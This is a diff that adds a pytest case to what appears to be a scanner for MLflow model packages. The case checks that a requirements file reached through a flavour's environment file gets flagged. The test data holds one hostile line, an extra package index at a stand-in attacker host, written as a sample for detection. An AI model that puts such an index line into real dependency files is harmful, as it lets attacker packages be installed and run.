@@ -162,3 +162,13 @@ def test_python_of_the_code_folder_is_bounded(tmp_path: Path, monkeypatch: pytes
     monkeypatch.setattr(mlflow, "MAX_CODE_BYTES", 10)
     found = [(f.rule_id, f.location.path) for f in scan_file(str(model / "MLmodel")).findings]
     assert ("MLF006", str(model / "code" / "helpers.py")) in found
+
+
+def test_environment_files_named_by_the_flavour_and_includes_are_read(tmp_path: Path) -> None:
+    model = copy(tmp_path, "sklearn_pickle")
+    edit(model / "MLmodel", "virtualenv: python_env.yaml", "virtualenv: env/other_env.yaml")
+    (model / "env").mkdir()
+    (model / "env" / "other_env.yaml").write_text("python: 3.11\ndependencies:\n- -r extra.txt\n", encoding="utf-8")
+    (model / "extra.txt").write_text("--extra-index-url https://evil.example/simple\nnumpy\n", encoding="utf-8")
+    (finding,) = [f for f in scan_file(str(model / "MLmodel")).findings if f.rule_id == "MLF005"]
+    assert finding.level is Severity.HIGH and "extra.txt" in finding.details["requirements"]
